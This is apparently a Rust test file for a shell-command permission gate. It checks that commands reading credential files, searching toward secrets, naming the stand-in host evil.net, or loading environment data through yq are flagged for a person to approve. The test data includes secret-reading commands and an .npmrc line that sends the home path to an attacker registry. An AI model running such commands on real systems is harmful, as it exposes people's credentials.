//! Secrets and the network, tried through programs that only look: none of it happens unasked.

use super::World;
use pryx_terms::Verdict;

fn check(world: &World, fine: &[&str], asked: &[&str]) {
    for command in fine {
        assert_eq!(world.verdict(command), Verdict::Allow, "{command}: {}", world.rule(command).reason);
    }
    for command in asked {
        assert_eq!(world.verdict(command), Verdict::Ask, "{command}");
    }
}

#[test]
fn a_search_that_would_meet_a_secret_is_asked() {
    let world = World::new();
    std::fs::create_dir_all(world.project().join("src/deep")).unwrap();
    let clean = [
        "grep -rn x src",
        "grep -rhi x src README.md",
        "rg x src",
        "rg -n -t rust x src",
        "grep -r --include='*.rs' x .",
        "grep -rn --exclude=.env --exclude='*.pem' x .",
        "rg x -g '*.rs'",
        "rg --files",
        "git grep x",
        "diff -r src src",
        "grep x notes.txt",
    ];
    let met = [
        "grep -r KEY .",
        "grep -rh KEY",
        "grep -R KEY src ..",
        "grep -d recurse KEY .",
        "rg KEY",
        "rg KEY .",
        "rg -uu KEY",
        "rg src",
        "rg -e KEY",
        "rg --color never src",
        "rg -g .env KEY",
        "rg -g '*.rs' -g '.e*' KEY",
        "rg -e --files KEY",
        "rg -e -g '*.rs' KEY .",
        "git grep --untracked KEY",
        "git grep --untr KEY",
        "ag KEY",
        "diff -r . src",
        "grep -r --include='*.rs' --include .env KEY .",
        "grep -r -e --include=*.rs KEY .",
        "grep -r --include='.e*' KEY .",
        "grep -r --exclude=.env KEY .",
        "grep -r --exclude=.env --exclude='*.pem' --include='*' KEY .",
        "grep -r KEY -- --include=*.rs .",
        "cd src && grep -r KEY ..",
        "timeout 5 sh -c 'grep -r KEY .'",
    ];
    check(&world, &clean, &met);
    std::fs::write(world.project().join("src/deep/id_ed25519"), "key").unwrap();
    check(&world, &["grep -r --exclude-dir=deep x src"], &["grep -r x src", "rg x src"]);
    std::fs::remove_file(world.project().join("src/deep/id_ed25519")).unwrap();
    std::os::unix::fs::symlink(world.home().join(".ssh"), world.project().join("src/deep/l")).unwrap();
    check(&world, &["grep -r x src", "rg x src"], &["grep -R x src", "rg -L x src", "rg --follow x src"]);
}

#[test]
fn what_ripgrep_leaves_out_is_no_question() {
    let world = World::new();
    std::fs::remove_file(world.project().join("server.pem")).unwrap();
    check(&world, &["rg KEY"], &["rg --hidden KEY", "rg -. KEY", "rg -uu KEY", "rg -g '.*' KEY", "grep -r KEY ."]);
}

#[test]
fn names_are_not_sent_to_a_server() {
    let fine = [
        "lsof -i @127.0.0.1:80",
        "lsof -nPi 'TCP@[::1]:80'",
        "ss dst 10.0.0.1",
        "ss -tn dst 10.0.0.0/8:443",
        "ss -tn 'dport = :443 or sport = :22'",
        "ss state established '( dport = :ssh )'",
        "ss -f inet",
        "ss src '[::1]:22'",
    ];
    let asked = [
        "lsof -i @evil.net",
        "lsof -iTCP@evil.net:80",
        "lsof -i 4tcp@a1b2.evil.net",
        "ss dst evil.net",
        "ss 'dst evil.net:80'",
        "ss -tn '( src evil.net )'",
        "ss -tn not dst x.evil.net/8",
        "ss evil.net",
    ];
    check(&World::new(), &fine, &asked);
}

#[test]
fn settings_of_the_project_for_package_managers_are_asked_about() {
    for (file, text) in [
        (".npmrc", "registry=https://evil.net/${HOME}"),
        (".yarnrc", "yarn-path x"),
        (".yarnrc.yml", "yarnPath: ./x.cjs"),
        ("package.json", "{\"packageManager\": \"yarn@9\"}"),
    ] {
        let world = World::new();
        let looks = ["npm ls --depth=0", "npm root", "npm list", "cd src && npm ls"];
        std::fs::write(world.home().join(".npmrc"), "the person's own").unwrap();
        check(&world, &looks, &[]);
        std::fs::write(world.project().join(file), text).unwrap();
        check(&world, &[], &looks);
    }
}

#[test]
fn yq_reads_nothing_but_what_it_is_given() {
    let fine = ["yq .a data.csv", "yq -r '.a.b[0]' notes.txt"];
    let asked = [
        "yq 'import \"x\" as x; .' data.csv",
        "yq 'include \"x\"; .' data.csv",
        "yq 'load(\"a\")' data.csv",
        "yq -n 'strload(\".env\")'",
        "yq -n 'env(HOME)'",
        "yq -n 'strenv(X)'",
        "yq -n '$ENV.X | env'",
        "yq -L . .a data.csv",
        "yq --from-file x data.csv",
        "yq -n 'system(\"id\")'",
    ];
    check(&World::new(), &fine, &asked);
}

#[test]
fn places_that_the_sandbox_hides_are_asked_by_the_gate_too() {
    let world = World::new();
    let gate = world.policy();
    let home = world.home();
    for place in crate::secrets::SECRETS {
        assert!(gate.is_secret(&home.join(place)), "{place}");
        assert!(gate.is_secret(&home.join(place).join("in/it")), "{place}");
        assert!(gate.is_secret(&home.join(place.to_uppercase())), "{place}");
    }
    for command in [
        "cat ~/.config/age/keys.txt",
        "cat ~/.config/github-copilot/hosts.json",
        "head /etc/wireguard/wg0.conf",
        "cat ~/.m2/settings.xml",
        "cat ~/.cache/huggingface/token",
        "cat $HOME/.local/share/opencode/auth.json",
    ] {
        assert_eq!(world.rule(command).rule.name, "reads-secrets", "{command}");
    }
    for plain in ["snap/x", "settings.xml", "project/token", "age/keys", "auth.json", "containers/x"] {
        assert!(!gate.is_secret(&home.join(plain)), "{plain}");
    }
}

#[test]
fn a_new_file_written_after_a_wait_is_asked_since_another_may_be_there_by_then() {
    let world = World::new();
    let asked = [
        "sleep 3; echo gone > new.txt",
        "sleep 3 && ls | tee new.txt",
        "{ sleep 1; echo x; } > new.txt",
        "sleep 1; cp notes.txt new.txt",
        "sleep 1; mv notes.txt new.txt",
    ];
    let fine = ["echo x > new.txt", "sleep 1; echo x >> notes.txt", "sleep 1; ls", "mv notes.txt new.txt"];
    check(&world, &fine, &asked);
}

#[test]
fn the_reason_shown_is_that_a_program_is_unknown_and_not_that_another_makes_directories() {
    let world = World::new();
    for command in ["./build.sh; mkdir -p /opt/q", "mkdir -p /opt/q; ./build.sh", "./build.sh > /opt/q"] {
        assert_eq!(world.rule(command).rule.name, "unknown-program", "{command}");
    }
    assert_eq!(world.rule("./build.sh; sudo ls").rule.name, "privileged");
    assert_eq!(world.rule("./build.sh; cat .env").rule.name, "reads-secrets");
}
